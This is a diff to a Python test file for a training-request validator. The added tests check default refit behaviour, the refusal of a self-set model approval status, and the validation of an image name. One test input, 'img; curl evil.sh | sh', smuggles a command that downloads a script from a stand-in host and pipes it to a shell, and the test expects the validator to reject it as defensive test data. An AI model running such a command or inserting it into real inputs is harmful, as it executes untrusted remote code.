@@ -131,6 +131,16 @@ def test_smx_validator_sample_is_accepted_unchanged():
     train = request.channels.train
     assert (train.S3DataType, train.InputMode, train.RecordWrapperType) == ("AugmentedManifestFile", "Pipe", "RecordIO")
     assert train.AttributeNames == ["source-ref", "class"]
+    assert request.refit is False  # SMX-Validator trained the folds only: so does its input here
+
+
+def test_a_request_refits_by_default_and_cannot_approve_its_own_model():
+    assert parse_request(minimal()).refit is True
+    # the approval status is the deployment's ([smx] model_approval_status): a conf asking is refused
+    assert problems(minimal(registry={"approval_status": "Approved"})) == ["registry.approval_status: unknown field"]
+    assert problems(minimal(registry={"inference_image": "img; curl evil.sh | sh"})) == [
+        "registry.inference_image: must match ^[A-Za-z0-9][A-Za-z0-9._/:@-]*$, got 'img; curl evil.sh | sh'"
+    ]
 
 
 def test_smx_validator_snake_case_spellings_and_its_paths_in_errors():
